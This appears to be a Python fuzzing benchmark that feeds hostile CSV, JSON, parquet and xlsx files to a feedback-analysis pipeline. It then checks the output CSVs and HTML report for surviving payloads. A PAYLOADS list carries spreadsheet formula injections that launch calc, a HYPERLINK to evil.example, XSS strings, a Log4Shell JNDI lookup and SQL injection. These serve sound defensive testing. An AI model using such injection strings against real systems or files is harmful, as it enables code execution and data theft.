"""Fuzzed exports: hostile files of every supported format, each run through the real pipeline.

Every generator returns ``(name, bytes, expected_rows)``; ``expected_rows`` is the number of records the
file holds when that is well defined (None otherwise), and then ``rows_in`` must equal it. Each file is
run in-process with the model-free stand-ins (``run()`` with the hashing embedder, PCA and a blank
spaCy, as the fast tests do) and its folder written, so the report and CSV writers see the payloads too.
A file may be refused with an InsightsError (a one-line message); any other exception is a crash.
"""

from __future__ import annotations

import io
import json
import logging
import random
import shutil
import traceback
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd

from benchmarks.faults_common import Outcome

Generated = tuple[str, bytes, int | None]

WORDS = [
    "search", "results", "are", "all", "old", "scam", "ads", "login", "fails", "app", "crashes", "after", "update",
    "password", "reset", "never", "arrives", "videos", "buffer", "forever", "great", "love", "it", "refund",
    "please", "the", "feed", "shows", "spam", "every", "morning",
]  # fmt: skip
PAYLOADS = (
    "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd",
    "\t=1+1", "\r=1", "<script>alert('x')</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://x/a}", "'; DROP TABLE t;--",
    "\u202eevil\u202c", "\u200b\u200b\u200b", "Z\u0351\u0352\u0353\u0354a\u0355\u0356l\u0357g\u0358o",
    "\U0001f600" * 50, "\x00nul\x00", "\ufeffbom inside",
)  # fmt: skip


def _text(rng: random.Random, hostile: float = 0.3) -> str:
    if rng.random() < hostile:
        return rng.choice(PAYLOADS) + " " + " ".join(rng.choices(WORDS, k=rng.randint(0, 8)))
    return " ".join(rng.choices(WORDS, k=rng.randint(1, 20)))


def _csv(rows: list[list[str]], delimiter: str = ",") -> str:
    import csv

    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)  # quotes a lone \r too
    return buf.getvalue()


def gen_csv(rng: random.Random) -> Generated:
    n = rng.randint(1, 120)
    delimiter = rng.choice(",;\t|")
    rows = [["id", "text", "created_at"]] + [[str(i), _text(rng), f"2026-11-{1 + i % 28:02d}"] for i in range(n)]
    return "plain.csv", _csv(rows, delimiter).encode("utf-8"), n


def gen_ragged(rng: random.Random) -> Generated:
    n = rng.randint(1, 80)
    rows = [["id", "text"]]
    for i in range(n):
        extra = rng.choice([[], [], ["x"], ["a", "b", "c"], None])
        rows.append([str(i)] if extra is None else [str(i), _text(rng), *extra])
    return "ragged.csv", _csv(rows).encode("utf-8"), n


def gen_encoding(rng: random.Random) -> Generated:
    n = rng.randint(1, 60)
    lines = [b"id,text"]
    for i in range(n):
        junk = bytes(rng.choice([b for b in range(256) if b not in b'\n\r,"']) for _ in range(rng.randint(1, 40)))
        word = rng.choice(WORDS).encode(rng.choice(["utf-8", "latin-1", "cp1252", "utf-16-le"]))
        lines.append(f"{i},".encode() + word.replace(b"\n", b" ") + b" " + junk)
    data = b"\n".join(lines) + b"\n"
    kind = rng.choice(["raw", "bom", "utf16", "utf32"])
    if kind == "bom":
        data = b"\xef\xbb\xbf" + data
    elif kind == "utf16":
        return "utf16.csv", "\n".join(["id,text", *(f"{i},{_text(rng)}" for i in range(n))]).encode("utf-16"), None
    elif kind == "utf32":
        return "utf32.csv", "id,text\n1,hello there\n".encode("utf-32"), None
    return "encoding.csv", data.replace(b"\r", b" "), n if kind in ("raw", "bom") else None


def gen_huge_field(rng: random.Random) -> Generated:
    size = rng.choice([1 << 20, 2 << 20, 300_000])
    big = ("x" if rng.random() < 0.5 else "word ") * (size // 5 + 1)
    rows = [["id", "text", "meta"], ["1", big[:size], "m"], ["2", _text(rng), big[: size // 2]], ["3", "short", "m"]]
    return "huge.csv", _csv(rows).encode("utf-8"), 3


def gen_one_mb_text(rng: random.Random) -> Generated:
    text = " ".join(rng.choices(WORDS, k=200_000))[: 1 << 20]
    if rng.random() < 0.5:
        return "onemb.jsonl", (json.dumps({"text": text}) + "\n").encode("utf-8"), 1
    return "onemb.csv", _csv([["text"], [text]]).encode("utf-8"), 1


def gen_payloads(rng: random.Random) -> Generated:
    rows = [["id", "text", "=cmd|' /C calc'!A0"]] + [[f"@{i}", p, p] for i, p in enumerate(PAYLOADS)]
    rows += [[str(100 + i), _text(rng, 0.9), rng.choice(PAYLOADS)] for i in range(rng.randint(0, 40))]
    return "payloads.csv", _csv(rows).encode("utf-8", "surrogatepass"), len(rows) - 1


def gen_jsonl(rng: random.Random) -> Generated:
    lines = []
    for i in range(rng.randint(1, 80)):
        kind = rng.random()
        if kind < 0.6:
            lines.append(json.dumps({"id": i, "text": _text(rng), "at": rng.choice(["2026-11-02", "bad", None, 7])}))
        elif kind < 0.7:
            lines.append(json.dumps({"id": i, "text": rng.choice([None, 42, 3.5, True, [], {}, ["a"], {"k": "v"}])}))
        elif kind < 0.8:
            lines.append(json.dumps(rng.choice([[1, 2], "str", 5, None])))
        else:
            lines.append(f'{{"id": {i}, "text": "unterminated')
    return "fuzz.jsonl", ("\n".join(lines) + "\n").encode("utf-8"), len(lines)


def gen_deep_json(rng: random.Random) -> Generated:
    depth = rng.choice([100, 5_000, 200_000])
    nest = "[" * depth + "]" * depth
    kind = rng.choice(["array", "jsonl", "value"])
    if kind == "array":
        return "deep.json", nest.encode(), None
    if kind == "jsonl":
        return "deep.jsonl", ('{"text": "ok fine"}\n{"text": ' + nest + "}\n").encode(), 2
    value = '{"a":' * depth + "1" + "}" * depth
    return "deepvalue.json", ('[{"text": "login broken", "meta": ' + value + "}]").encode(), 1


def gen_binary(rng: random.Random) -> Generated:
    suffix = rng.choice([".csv", ".tsv", ".jsonl", ".json", ".parquet", ".xlsx"])
    data = bytes(rng.randrange(256) for _ in range(rng.randint(1, 20_000)))
    if rng.random() < 0.3:
        data = rng.choice([b"PAR1", b"PK\x03\x04", b"\x1f\x8b", b"\xff\xfe"]) + data
    return "binary" + suffix, data, None


def gen_parquet(rng: random.Random) -> Generated:
    n = rng.randint(1, 50)
    column: list[Any] = rng.choice([
        [_text(rng) for _ in range(n)], list(range(n)), [None] * n, [b"\x00\xffbytes"] * n,
        [[_text(rng)] for _ in range(n)], [{"k": _text(rng)} for _ in range(n)],
    ])  # fmt: skip
    buf = io.BytesIO()
    pd.DataFrame({"text": column, "id": [f"r{i}" for i in range(n)]}).to_parquet(buf, index=False)
    data = buf.getvalue()
    if rng.random() < 0.3:
        return "truncated.parquet", data[: rng.randint(1, len(data) - 1)], None
    return "typed.parquet", data, n


def gen_xlsx(rng: random.Random) -> Generated:
    n = rng.randint(1, 30)
    buf = io.BytesIO()
    texts = [rng.choice([*PAYLOADS[:6], _text(rng)]).replace("\x00", "") for _ in range(n)]
    pd.DataFrame({"text": texts, "n": range(n)}).to_excel(buf, index=False, engine="openpyxl")
    data = buf.getvalue()
    if rng.random() < 0.3:
        return "truncated.xlsx", data[: rng.randint(1, len(data) - 1)], None
    return "sheet.xlsx", data, n


def gen_mutated(rng: random.Random) -> Generated:
    name, data, _ = rng.choice([gen_csv, gen_jsonl, gen_payloads])(rng)
    raw = bytearray(data)
    for _ in range(rng.randint(1, 30)):
        op, i = rng.random(), rng.randrange(max(1, len(raw)))
        if op < 0.4 and raw:
            raw[i] = rng.randrange(256)
        elif op < 0.7:
            raw[i:i] = rng.choice([b'"', b"\n", b"\r", b",", b"\x00", b"\\", b"{", b"\xe2\x80\xa8"])
        else:
            del raw[i : i + rng.randint(1, 20)]
    return "mutated" + Path(name).suffix, bytes(raw) or b"x", None


def gen_shapes(rng: random.Random) -> Generated:
    kind = rng.choice(["empty", "header", "bom", "blank", "wide", "dupcols", "nocols", "cr", "unparseable"])
    if kind == "empty":
        return "empty.csv", b"", None
    if kind == "header":
        return "header.csv", b"id,text\n", None
    if kind == "bom":
        return "bom.csv", b"\xef\xbb\xbf", None
    if kind == "blank":
        return "blank.csv", b"\n\n  \n\t\n", None
    if kind == "wide":
        cols = [f"c{i}" for i in range(rng.choice([500, 5000]))]
        return "wide.csv", _csv([["text", *cols], ["login fails", *cols]]).encode(), 1
    if kind == "dupcols":
        return "dup.csv", b"text,text,id\na,b,1\n", None
    if kind == "nocols":
        return "nocols.csv", b",,,\n,,,\n", None
    if kind == "cr":
        return "cr.csv", b"id,text\r1,old results\r2,scam ads\r", 2
    return "unparseable.csv", b"id,text\n1,a,b\n2,c,d,e\n", 2  # every row ragged: a one-line input error (issue 19)


GENERATORS: dict[str, Callable[[random.Random], Generated]] = {
    "csv": gen_csv, "ragged": gen_ragged, "encoding": gen_encoding, "huge_field": gen_huge_field,
    "1mb_text": gen_one_mb_text, "payloads": gen_payloads, "jsonl": gen_jsonl, "deep_json": gen_deep_json,
    "binary": gen_binary, "parquet": gen_parquet, "xlsx": gen_xlsx, "mutated": gen_mutated, "shapes": gen_shapes,
}  # fmt: skip


def payload_problems(run_dir: Path) -> list[str]:
    """No formula-like cell in the CSVs, no live script payload in the report."""
    problems = []
    for name in ("themes.csv", "categories.csv"):
        text = (run_dir / name).read_text(encoding="utf-8")
        bad = [c for c in pd.read_csv(io.StringIO(text), dtype=str).fillna("").to_numpy().ravel()
               if c.startswith(("=", "+", "-", "@"))]  # fmt: skip
        if bad:
            problems.append(f"{name}: formula-like cells {bad[:2]!r}")
    page = (run_dir / "report.html").read_text(encoding="utf-8")
    for needle in ("<script>alert", "<img src=x"):
        if needle in page:
            problems.append(f"report.html holds a live payload {needle!r}")
    return problems


def fuzz(work: Path, *, files: int, seed: int = 0) -> Outcome:
    """Generate and run ``files`` hostile exports (every generator in turn, random within)."""
    import spacy

    from models.embedding import make_embedder
    from pipeline import run
    from pipeline.errors import InsightsError

    out = Outcome("fuzzed exports", command="python -m benchmarks.faults --only fuzz")
    rng = random.Random(seed)
    nlp, embedder = spacy.blank("en"), make_embedder("hashing")
    quiet = logging.getLogger("pipeline")
    level = quiet.level
    quiet.setLevel(logging.ERROR)  # hundreds of files' warnings would drown the benchmark's log
    try:
        return _fuzz(work, files, rng, nlp, embedder, run, InsightsError, out)
    finally:
        quiet.setLevel(level)


def _fuzz(work: Path, files: int, rng: random.Random, nlp: Any, embedder: Any, run: Any, insights_error: Any,
          out: Outcome) -> Outcome:  # fmt: skip
    verdicts: Counter[str] = Counter()
    reasons: Counter[str] = Counter()
    names = list(GENERATORS)
    for i in range(files):
        kind = names[i % len(names)]
        name, data, expected = GENERATORS[kind](rng)
        folder = work / f"fuzz{i}"
        folder.mkdir(parents=True)
        path = folder / name
        path.write_bytes(data)
        overrides = {
            "clean.spacy_model": "blank:en", "embed.model": "hashing", "reduce.method": "pca",
            "embed.cache_dir": str(work / "fuzz-cache"), "output.out_dir": str(folder / "out"),
            "output.run_id": "f", "trends.enabled": rng.random() < 0.5,
        }  # fmt: skip
        label = f"file {i} {kind}/{name} ({len(data):,} bytes)"
        try:
            result = run(path, overrides=overrides, nlp=nlp, embedder=embedder)
        except insights_error as exc:
            message = " ".join(str(exc).split())
            verdicts["refused"] += 1
            reasons[message.split(": ", 1)[-1][:50]] += 1
            if not message:
                out.fail(label, ["refused with an empty message"])
        except Exception as exc:
            frames = traceback.extract_tb(exc.__traceback__)
            at = f"{Path(frames[-1].filename).name}:{frames[-1].lineno}" if frames else "?"
            verdicts["crash"] += 1
            out.fail(label, [f"stack trace: {type(exc).__name__}: {str(exc)[:160]} at {at}"])
            (work / f"crash{i}-{name}").write_bytes(data)  # kept for the report
        else:
            verdicts["ran"] += 1
            acc = result.accounting
            problems = []
            if acc["rows_in"] != acc["themed"] + acc["outliers"] + acc["excluded"] or acc["rows_in"] != len(
                result.feedback
            ):
                problems.append(f"accounting {acc}")
            if expected is not None and acc["rows_in"] != expected:
                problems.append(f"rows_in {acc['rows_in']}, the file holds {expected} records")
            if result.run_dir is not None:
                problems += payload_problems(result.run_dir)
            out.fail(label, problems)
        out.trials += 1
        shutil.rmtree(folder, ignore_errors=True)
    out.figures = {"files": files, **{k.replace(" ", "_"): v for k, v in verdicts.items()}}
    out.notes.insert(0, f"{files} files from {len(names)} generators in turn: " + ", ".join(names))
    out.notes.append("refusals, most common: " + "; ".join(f"{n}x {r!r}" for r, n in reasons.most_common(4)))
    return out
